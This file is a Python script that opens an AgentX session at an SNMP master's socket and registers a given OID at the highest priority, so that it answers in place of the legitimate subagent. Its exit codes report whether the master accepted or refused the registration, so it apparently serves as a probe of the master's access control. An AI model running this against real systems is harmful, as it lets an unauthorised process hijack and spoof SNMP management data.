"""An AgentX session of someone else's: opens a session at the master's socket and registers
one object at the best priority, as a process that wanted to answer in the agent's place.

  agentx_intruder.py SOCKET-PATH OID
Exit status: 0 when the master accepted the registration, 1 when it refused it, 2 when the
socket could not be reached."""

import socket
import struct
import sys

OPEN, REGISTER, RESPONSE = 1, 3, 18
NETWORK_BYTE_ORDER = 0x10


def encode_oid(text):
    subs = [int(s) for s in text.strip(".").split(".")]
    prefix = 0
    if subs[:4] == [1, 3, 6, 1] and len(subs) > 4 and subs[4] < 256:
        prefix, subs = subs[4], subs[5:]
    return struct.pack("!BBBB", len(subs), prefix, 0, 0) + b"".join(
        struct.pack("!I", s) for s in subs)


def send_pdu(sock, kind, session, packet, payload):
    sock.sendall(struct.pack("!BBBBIIII", 1, kind, NETWORK_BYTE_ORDER, 0, session, 0, packet,
                             len(payload)) + payload)
    header = sock.recv(20, socket.MSG_WAITALL)
    assert len(header) == 20 and header[1] == RESPONSE, header
    session, length = struct.unpack("!I", header[4:8])[0], struct.unpack("!I", header[16:20])[0]
    body = sock.recv(length, socket.MSG_WAITALL)
    return session, struct.unpack("!H", body[4:6])[0]  # after sysUpTime: the error


def main(path, oid):
    try:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(path)
    except OSError as err:
        print("cannot reach %s: %s" % (path, err))
        return 2
    description = b"intruder"
    open_payload = struct.pack("!BBBB", 5, 0, 0, 0) + encode_oid("1.3.6.1.4.1.99999") + \
        struct.pack("!I", len(description)) + description
    session, error = send_pdu(sock, OPEN, 0, 1, open_payload)
    if error:
        print("open refused: %d" % error)
        return 1
    register = struct.pack("!BBBB", 5, 1, 0, 0) + encode_oid(oid)  # priority 1 beats 127
    _, error = send_pdu(sock, REGISTER, session, 2, register)
    print("registration %s: %d" % ("refused" if error else "accepted", error))
    return 1 if error else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
